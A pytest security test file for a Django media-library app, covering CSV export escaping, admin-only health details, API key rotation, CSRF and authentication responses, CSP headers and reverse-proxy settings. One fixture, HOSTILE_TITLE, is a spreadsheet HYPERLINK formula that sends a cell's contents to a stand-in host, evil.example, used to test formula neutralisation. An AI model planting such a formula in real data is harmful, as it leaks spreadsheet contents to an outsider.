"""Security edges: CSV exports that a spreadsheet will not run, health details for admins only,
API key rotation, 401 (not a CSRF failure) for anonymous writes, security headers and a CSP the
templates can live with, and the reverse-proxy settings from the environment."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.test import Client

from core.models import ApiKey, Heartbeat, Job
from scanning.services import FolderInput, save_folder, scan_folder
from tests.scanning import samples

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


# --- CSV export -----------------------------------------------------------------------------------
def test_export_neutralises_formulas_from_a_scanned_title(reader_client, tmp_path):
    samples.make_epub(tmp_path / "lib" / "evil.epub", samples.Book(
        HOSTILE_TITLE, authors=(("@Evil Author", "Author, @Evil"),)))
    samples.make_epub(tmp_path / "lib" / "fine.epub", samples.Book(
        "-Minus and +Plus", uuid="5b0e8a9e-0000-4000-8000-000000000002"))
    scan_folder(save_folder(FolderInput(path=str(tmp_path / "lib"), content_type="mixed")).pk)
    response = reader_client.get("/api/library/export", {"fmt": "csv", "sort": "title"})
    rows = {r["title"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}
    assert set(rows) == {"'" + HOSTILE_TITLE, "'-Minus and +Plus"}
    assert rows["'" + HOSTILE_TITLE]["authors"] == "'@Evil Author"
    as_json = reader_client.get("/api/library/export", {"fmt": "json"}).json()  # JSON keeps the real value
    assert HOSTILE_TITLE in {r["title"] for r in as_json}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Dune", "Dune"), ("a=b", "a=b"), ("", ""), (12, 12), (None, None),
])
def test_spreadsheet_safe_quotes_only_formula_prefixes(value, expected):
    from media.api import spreadsheet_safe

    assert spreadsheet_safe(value) == expected


# --- health ---------------------------------------------------------------------------------------------
def test_anonymous_health_gives_only_the_status(client):
    Heartbeat.objects.create(role="worker", name="build-host-7:4242")
    response = client.get("/api/health")
    data = response.json()["data"]
    assert data["status"] in ("ok", "degraded") and not data.get("checks") and not data.get("versions")
    text = response.content.decode()
    assert str(django_settings.QUEUE_DB_PATH) not in text and "build-host-7" not in text and "4242" not in text
    assert client.get("/health").json() == {"status": data["status"]}


def test_readers_get_only_the_status_and_admins_every_detail(reader_client, admin_user):
    assert not reader_client.get("/api/health").json()["data"].get("checks")
    Heartbeat.objects.create(role="worker", name="build-host-7:4242")
    data = Client().get("/api/health", HTTP_X_API_KEY=ApiKey.issue(admin_user)).json()["data"]
    assert set(data["checks"]) == {"database", "broker", "worker", "scheduler"}
    assert "build-host-7:4242" in data["checks"]["worker"]["detail"]
    assert data["versions"]["django"]


# --- API key rotation ------------------------------------------------------------------------------------
def test_an_api_key_alone_cannot_replace_itself(reader_user):
    raw = ApiKey.issue(reader_user)
    response = Client().post("/api/auth/api-key", content_type="application/json", HTTP_X_API_KEY=raw)
    assert response.status_code == 403
    assert "cannot replace itself" in response.json()["error"]
    assert Client().get("/api/jobs/", HTTP_X_API_KEY=raw).status_code == 200  # still the same key
    wrong = Client().post("/api/auth/api-key", data=json.dumps({"password": "guess"}),
                          content_type="application/json", HTTP_X_API_KEY=raw)
    assert wrong.status_code == 403


def test_an_api_key_with_the_password_or_a_logged_in_page_replaces_the_key(reader_user):
    raw = ApiKey.issue(reader_user)
    response = Client().post("/api/auth/api-key", data=json.dumps({"password": "pw-reader-123"}),
                             content_type="application/json", HTTP_X_API_KEY=raw)
    assert response.status_code == 200
    new = response.json()["data"]["key"]
    assert Client().get("/api/jobs/", HTTP_X_API_KEY=raw).status_code == 401
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(reader_user)
    browser.get("/settings/")  # sets the CSRF cookie as the page does
    token = browser.cookies["csrftoken"].value
    replaced = browser.post("/api/auth/api-key", data="{}", content_type="application/json", HTTP_X_CSRFTOKEN=token)
    assert replaced.status_code == 200
    assert Client().get("/api/jobs/", HTTP_X_API_KEY=new).status_code == 401


# --- anonymous writes: 401; session writes without CSRF: 403 -----------------------------------------------
def test_anonymous_writes_get_401_not_a_csrf_failure(broker):
    anonymous = Client(enforce_csrf_checks=True)
    for method, path in (("post", "/api/jobs/"), ("post", "/api/media/wanted/"), ("delete", "/api/library/items/1"),
                         ("post", "/api/auth/api-key")):
        response = getattr(anonymous, method)(path, data="{}", content_type="application/json")
        assert response.status_code == 401, (path, response.content)
        assert response.json()["error_code"] == "authentication_required"


def test_logged_in_session_writes_without_csrf_are_refused(admin_user, broker):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(admin_user)
    response = browser.post("/api/jobs/", data=json.dumps({"kind": "core.selftest"}), content_type="application/json")
    assert response.status_code == 403
    assert Job.objects.count() == 0


# --- headers and CSP ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["/", "/library/", "/api/jobs/", "/accounts/login/"])
def test_responses_carry_the_security_headers(reader_client, path):
    response = reader_client.get(path)
    policy = response["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert "unsafe-inline" not in policy and "img-src 'self' data:" in policy
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"


INLINE = [
    (re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>", re.I), "inline <script>"),
    (re.compile(r"\sstyle\s*=", re.I), "style= attribute"),
    (re.compile(r"<style", re.I), "<style> element"),
    (re.compile(r"\son[a-z]+\s*=", re.I), "event handler attribute"),
    (re.compile(r"javascript:", re.I), "javascript: URL"),
]


def test_templates_have_nothing_inline_that_the_csp_would_block():
    found = [f"{path.relative_to(ROOT)}: {what}" for path in sorted((ROOT / "templates").rglob("*.html"))
             for pattern, what in INLINE if pattern.search(path.read_text(encoding="utf-8"))]
    assert found == []


def test_page_scripts_set_no_style_attribute_the_csp_would_block():
    found = [str(path.relative_to(ROOT)) for path in sorted((ROOT / "static" / "js").glob("*.js"))
             if re.search(r"setAttribute\(\s*[\"']style|[\"']style[\"']\s*:", path.read_text())]
    assert found == []


# --- behind a reverse proxy ----------------------------------------------------------------------------------
def _settings_under(env: dict[str, str], tmp_path) -> dict:
    code = ("import json, omnireadarr.settings as s; print(json.dumps({k: getattr(s, k) for k in ("
            "'SESSION_COOKIE_SECURE', 'CSRF_COOKIE_SECURE', 'SECURE_HSTS_SECONDS', 'SECURE_PROXY_SSL_HEADER')}))")
    full_env = {**os.environ, "OMNI_DATA_DIR": str(tmp_path), **env}
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=full_env, capture_output=True, text=True,
                         timeout=60, check=True)
    return json.loads(out.stdout.strip().splitlines()[-1])


def test_proxy_settings_default_to_plain_http(tmp_path, monkeypatch):
    for name in ("OMNI_SECURE_COOKIES", "OMNI_HSTS_SECONDS", "OMNI_TRUSTED_PROXY"):
        monkeypatch.delenv(name, raising=False)
    assert _settings_under({}, tmp_path) == {"SESSION_COOKIE_SECURE": False, "CSRF_COOKIE_SECURE": False,
                                             "SECURE_HSTS_SECONDS": 0, "SECURE_PROXY_SSL_HEADER": None}


def test_proxy_settings_come_from_the_environment(tmp_path):
    env = {"OMNI_SECURE_COOKIES": "true", "OMNI_HSTS_SECONDS": "31536000", "OMNI_TRUSTED_PROXY": "yes"}
    assert _settings_under(env, tmp_path) == {"SESSION_COOKIE_SECURE": True, "CSRF_COOKIE_SECURE": True,
                                              "SECURE_HSTS_SECONDS": 31536000,
                                              "SECURE_PROXY_SSL_HEADER": ["HTTP_X_FORWARDED_PROTO", "https"]}


def test_a_trusted_proxy_makes_forwarded_https_requests_secure_and_sends_hsts(client, settings):
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.SECURE_HSTS_SECONDS = 3600
    assert client.get("/health", HTTP_X_FORWARDED_PROTO="https")["Strict-Transport-Security"] == "max-age=3600"
    assert "Strict-Transport-Security" not in client.get("/health")
